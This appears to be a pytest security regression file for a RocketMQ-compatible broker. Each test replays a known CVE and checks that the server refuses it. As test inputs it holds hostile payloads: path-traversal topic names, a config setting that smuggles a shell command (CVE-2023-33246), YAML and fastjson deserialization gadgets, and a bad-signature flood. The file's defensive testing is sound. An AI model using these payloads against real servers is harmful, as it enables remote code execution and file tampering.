"""Attacks that succeeded against Apache RocketMQ, one test for each CVE of its servers, and floods of bad requests."""

import json
import logging
import time
import tracemalloc
from pathlib import Path

import pytest

from hanabi.access.guard import source_of
from hanabi.access.names import Surroundings
from hanabi.access.plain.yaml_text import read_yaml
from hanabi.access.policies.directory import Directory
from hanabi.access.policies.gate import PolicyGate
from hanabi.access.policies.model import User
from hanabi.access.refusals import Refusals
from hanabi.errors import NoPermission
from hanabi.testing.cluster import running_cluster
from hanabi.wire.codes import RequestCode
from hanabi.wire.command import decode_command, encode_request
from hanabi.wire.header import header_fields
from hanabi.wire.headers.acl import ListUsersHeader, UserHeader
from hanabi.wire.headers.topic import CreateTopicHeader
from hanabi.wire.signature import ACCESS_KEY, SIGNATURE
from tests.broker.talk import Peer
from tests.broker.test_access_control import APP, OPERATOR, SEND, asked, send_to
from tests.broker.test_policy_access import guarded, make_user

CODE = RequestCode


async def test_a_topic_with_a_path_in_its_name_makes_no_folder_cve_2019_17572(tmp_path: Path) -> None:
    async with running_cluster(tmp_path / "home") as cluster:
        peer = await Peer.connect(cluster.broker.address)
        for name in ("../../evil", "..", "a/../../evil", "evil\x00", "/evil"):
            assert (await asked(peer, SEND, send_to(name), None)).code != 0, name
            header = CreateTopicHeader(
                topic=name,
                default_topic="TBW102",
                read_queue_nums=1,
                write_queue_nums=1,
                perm=6,
                topic_filter_type="SINGLE_TAG",
                topic_sys_flag=0,
                order=False,
            )
            assert (await asked(peer, CODE.UPDATE_AND_CREATE_TOPIC, header, None)).code != 0, name
        await peer.close()
    assert not [path for path in tmp_path.rglob("*") if "evil" in path.name]


@pytest.mark.parametrize(
    "setting",
    [
        "rocketmqHome=-c $@|sh . echo touch /tmp/evil;",
        "filterServerNums=1",
        "brokerConfigPath=/tmp/evil",
        "configStorePath=/tmp/evil",
        "storePathRootDir=/tmp/evil",
        'initAuthenticationUser={"username":"evil","password":"evil-secret"}',
        "authenticationEnabled=false",
        "authorizationWhitelist=10",
    ],
)
async def test_settings_over_the_wire_run_no_command_and_open_no_door_cve_2023_33246(
    tmp_path: Path, setting: str
) -> None:
    async with guarded(tmp_path) as (cluster, peer):
        before = cluster.broker.settings.broker
        answer = await asked(peer, CODE.UPDATE_BROKER_CONFIG, None, OPERATOR, setting.encode())
        assert answer.code == 16
        assert cluster.broker.settings.broker == before


async def test_settings_of_the_name_server_write_no_file_cve_2023_37582(tmp_path: Path) -> None:
    evil = tmp_path / "evil"
    async with running_cluster(tmp_path / "home") as cluster:
        peer = await Peer.connect(cluster.namesrv)
        for setting in (f"configStorePath={evil}", f"configStorePathName={evil}", f"kvConfigPath={evil}"):
            assert (await asked(peer, CODE.UPDATE_NAMESRV_CONFIG, None, None, setting.encode())).code != 0, setting
        await peer.close()
    assert not evil.exists()


async def test_no_reply_tells_accounts_with_secrets_cve_2024_23321(tmp_path: Path) -> None:
    async with guarded(tmp_path) as (_, peer):
        await make_user(peer, APP, ("Cluster:*", "All"), ("Topic:*", "All"), ("Group:*", "All"))
        for code, header in (
            (CODE.AUTH_LIST_USER, ListUsersHeader()),
            (CODE.AUTH_GET_USER, UserHeader(username="operator")),
            (CODE.GET_BROKER_CONFIG, None),
            (54, None),  # told them, in 4.9.7
        ):
            answer = await asked(peer, code, header, APP, b"")
            assert b"secret-of" not in answer.body, code
            assert b"secret-of" not in json.dumps(dict(answer.fields())).encode(), code


@pytest.mark.parametrize(
    "text",
    [
        b"accounts: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x']]]]",
        b"accounts: !!python/object/apply:os.system ['true']",
        b"accounts: !!python/name:os.system",
    ],
)
def test_a_typed_document_makes_no_object_cve_2022_1471(text: bytes) -> None:
    def is_plain(value: object) -> bool:
        return isinstance(value, str) or (isinstance(value, list) and all(map(is_plain, value)))

    assert is_plain(read_yaml(text, "plain_acl.yml")["accounts"])


async def test_a_typed_body_makes_no_object_cve_2022_25845(tmp_path: Path) -> None:
    async with guarded(tmp_path) as (cluster, peer):
        body = b'{"@type":"java.lang.AutoCloseable","password":"secret-x","userType":{"@type":"x.Y"}}'
        answer = await asked(peer, CODE.AUTH_CREATE_USER, UserHeader(username="typed"), OPERATOR, body)
        assert answer.code != 0
        assert cluster.broker.access_control is not None
        assert cluster.broker.access_control.policies is not None
        assert "typed" not in cluster.broker.access_control.policies.directory.users


def test_ten_thousand_users_are_the_limit_and_each_is_found(tmp_path: Path) -> None:
    users = {f"user-{number}": User(username=f"user-{number}", password="secret-of-user") for number in range(10_000)}  # noqa: S106
    directory = Directory(tmp_path)
    for user in list(users.values())[:2]:
        directory.create_user(user)
    text = (tmp_path / "users.json").read_text()
    written = json.loads(text)
    one = written["user-0"]
    (tmp_path / "users.json").write_text(json.dumps({name: {**one, "username": name} for name in users}))
    full = Directory(tmp_path)
    assert full.users.keys() == users.keys()
    with pytest.raises(NoPermission, match="10000 users already"):
        full.create_user(User(username="one-more", password="secret-of-user"))  # noqa: S106


@pytest.mark.parametrize("count", [2_000, pytest.param(1_000_000, marks=pytest.mark.slow)])
def test_wrong_signatures_take_no_memory(tmp_path: Path, count: int, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.CRITICAL, "hanabi.access.refusals")  # pytest keeps each line
    directory = Directory(tmp_path)
    directory.create_user(User(username="app", password="secret-of-app"))  # noqa: S106
    gate = PolicyGate(directory, Surroundings("c", "r", lambda _: None))
    refusals = Refusals(time.monotonic)
    header, source = send_to("Orders"), source_of("10.1.2.3:1")
    fields = {**header_fields(header), SIGNATURE: "wrong"}

    def attack(number: int) -> None:
        named = {**fields, ACCESS_KEY: f"account-{number}" if number % 2 else "app"}
        request = decode_command(encode_request(SEND, number & 0xFFFF, named)[4:])
        try:
            gate.check(header, request, source)
        except NoPermission as error:
            refusals.refused(header, request, source, str(error))

    for number in range(1_500):  # until all bounded tables are full
        attack(number)
    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        for number in range(count):
            attack(number + 10_000)
        grown = tracemalloc.get_traced_memory()[0] - before
    finally:
        tracemalloc.stop()
    assert refusals.count == count + 1_500
    assert grown < 1 << 20
